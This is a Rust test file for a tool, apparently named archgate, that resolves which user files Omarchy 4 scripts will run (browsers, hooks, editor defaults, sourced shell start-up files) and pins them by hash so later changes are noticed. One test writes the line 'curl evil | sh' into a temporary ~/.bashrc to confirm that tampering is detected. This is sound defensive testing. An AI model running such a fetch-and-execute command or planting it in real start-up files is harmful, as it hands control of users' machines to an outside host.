//! The picks resolved as Omarchy 4's scripts resolve them: the web-app browser's order and
//! default, hooks and their samples, the editor's file, and what is never read.

use super::*;
use crate::omarchy::picks::{own_site, sites_in};

fn env(home: &Path) -> DesktopEnv {
    DesktopEnv::from_vars([
        ("HOME", home.display().to_string()),
        (
            "XDG_CONFIG_HOME",
            home.join(".config").display().to_string(),
        ),
    ])
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn entry(exec: &str) -> String {
    format!("[Desktop Entry]\nType=Application\nName=B\nExec={exec} %U\n")
}

#[test]
fn the_web_app_browser_is_found_in_the_script_s_order_and_by_its_default() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let site = own_site("omarchy-launch-webapp").unwrap();
    let pick = |binary: &str| resolve(&env(h), std::slice::from_ref(&site), binary, &[]);
    // No entry of the person's: still theirs to write before the script reads it.
    assert_eq!(pick("omarchy-launch-webapp").unwrap()[0].identity, "absent");
    // What is not a regular file is never read (a FIFO would hold archgate, or feed it one
    // text and `sed` another): refused. A socket stands for every such kind here.
    std::fs::create_dir_all(h.join(".local/share/applications")).unwrap();
    let _sock = std::os::unix::net::UnixListener::bind(
        h.join(".local/share/applications/chromium.desktop"),
    )
    .unwrap();
    assert!(pick("omarchy-launch-webapp").is_err());
    std::fs::remove_file(h.join(".local/share/applications/chromium.desktop")).unwrap();
    // The second of the script's three directories, the person's too.
    write(
        &h.join(".nix-profile/share/applications/chromium.desktop"),
        &entry("nixchromium"),
    );
    let p = pick("omarchy-launch-webapp").unwrap();
    assert_eq!(p.len(), 1);
    assert_eq!(p[0].program.as_deref(), Some("nixchromium"));
    // The first directory comes first.
    write(
        &h.join(".local/share/applications/chromium.desktop"),
        &entry("localchromium"),
    );
    assert_eq!(
        pick("omarchy-launch-webapp").unwrap()[0].program.as_deref(),
        Some("localchromium")
    );
    // A default the script keeps (Brave) is the one read; one it does not (vim) is not.
    write(
        &h.join(".local/share/applications/brave-browser.desktop"),
        &entry("mybrave"),
    );
    write(
        &h.join(".config/mimeapps.list"),
        "[Default Applications]\nx-scheme-handler/http=brave-browser.desktop\n",
    );
    let p = pick("omarchy-launch-webapp").unwrap();
    assert_eq!(p.len(), 1);
    assert_eq!(p[0].program.as_deref(), Some("mybrave"));
    assert!(p[0].starts.contains("mimeapps.list"), "{}", p[0].starts);
    write(
        &h.join(".local/share/applications/vim.desktop"),
        &entry("vim"),
    );
    write(
        &h.join(".config/mimeapps.list"),
        "[Default Applications]\nx-scheme-handler/http=vim.desktop\n",
    );
    assert_eq!(
        pick("omarchy-launch-webapp").unwrap()[0].program.as_deref(),
        Some("localchromium")
    );
}

#[test]
fn a_hook_is_the_named_one_and_its_directory_never_a_sample() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let hooks = h.join(".config/omarchy/hooks");
    write(&hooks.join("font-set.sample"), "echo sample\n");
    write(&hooks.join("theme-set"), "echo theme\n");
    let sites = sites_in(
        "omarchy-font-set",
        9,
        r#"omarchy-hook font-set "$font_name""#,
    );
    let pick = || resolve(&env(h), &sites, "omarchy-font-set", &[]).unwrap();
    // No hook of that name: still the person's to add before the script runs (attack 24 F4).
    let none = pick();
    assert_eq!(none.len(), 1);
    assert_eq!(none[0].identity, "absent");
    write(&hooks.join("font-set.d/10-mine"), "# mine\necho mine\n");
    let p = pick();
    assert_eq!(p.len(), 1);
    assert!(p[0].file.ends_with("font-set.d/10-mine"));
    assert!(p[0].starts.contains("echo mine"), "{}", p[0].starts);
    // The `hook` route itself: the name is its first argument.
    let own = own_site("omarchy-hook").unwrap();
    let p = resolve(&env(h), &[own], "omarchy-hook", &["theme-set".to_owned()]).unwrap();
    assert_eq!(p.len(), 1);
    assert!(p[0].file.ends_with("hooks/theme-set"));
}

#[test]
fn the_editor_is_the_defaults_file_s_first_line() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let site = own_site("omarchy-launch-editor").unwrap();
    let pick = || resolve(&env(h), std::slice::from_ref(&site), "x", &[]).unwrap();
    assert_eq!(pick()[0].identity, "absent");
    write(
        &h.join(".local/state/omarchy/defaults/editor"),
        "  zeditor  \nvim\n",
    );
    let p = pick();
    assert_eq!(p[0].program.as_deref(), Some("zeditor"));
    // Its identity changes with its content.
    let before = p[0].identity.clone();
    write(&h.join(".local/state/omarchy/defaults/editor"), "zeditor\n");
    assert_ne!(pick()[0].identity, before);
}

/// Attack 26 F12 and F9: a login shell reads `~/.bash_profile`, and Omarchy's own is
/// `[[ -f ~/.bashrc ]] && . ~/.bashrc` — so `~/.bashrc` is the code that runs and is pinned
/// too (it changed after the yes, and ran). With no start-up file there, the question names the
/// files the shell reads, not another picker's.
#[test]
fn a_sourced_file_pins_every_file_it_sources_in_turn() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let sites = sites_in("omarchy-t", 1, r#"bash -lc "echo hi""#);
    let pick = || resolve(&env(h), &sites, "omarchy-t", &[]).unwrap();
    let none = pick();
    let files: Vec<String> = none.iter().map(|p| p.file.display().to_string()).collect();
    assert_eq!(files, ["~/.bash_profile", "~/.bash_login", "~/.profile"]);
    assert!(none.iter().all(|p| p.identity == "absent" && p.is_code));
    write(
        &h.join(".bash_profile"),
        "[[ -f ~/.bashrc ]] && . ~/.bashrc\n",
    );
    write(&h.join(".bashrc"), "# aliases\nalias ll='ls -l'\n");
    let before = pick();
    let bashrc = before
        .iter()
        .find(|p| p.file == h.join(".bashrc"))
        .expect("~/.bashrc is pinned");
    assert!(bashrc.identity.contains("sha256:"), "{bashrc:?}");
    write(&h.join(".bashrc"), "# aliases\ncurl evil | sh\n");
    let after = pick();
    assert_ne!(
        before, after,
        "a change to ~/.bashrc changes what the person approved"
    );
    // A file the sourced one names only as it runs is said so.
    write(&h.join(".bashrc"), "source \"$EXTRA\"\n");
    let unnamed = pick();
    let p = unnamed
        .iter()
        .find(|p| {
            p.identity == "absent"
                && p.file.display().to_string() == "file the script names when it runs"
        })
        .expect("said so");
    // Not "your" file: archgate cannot tell whose it will be (attack 36 L2).
    let said = p.describe();
    assert!(
        said.starts_with("runs, as code, a file the script names"),
        "{said}"
    );
}
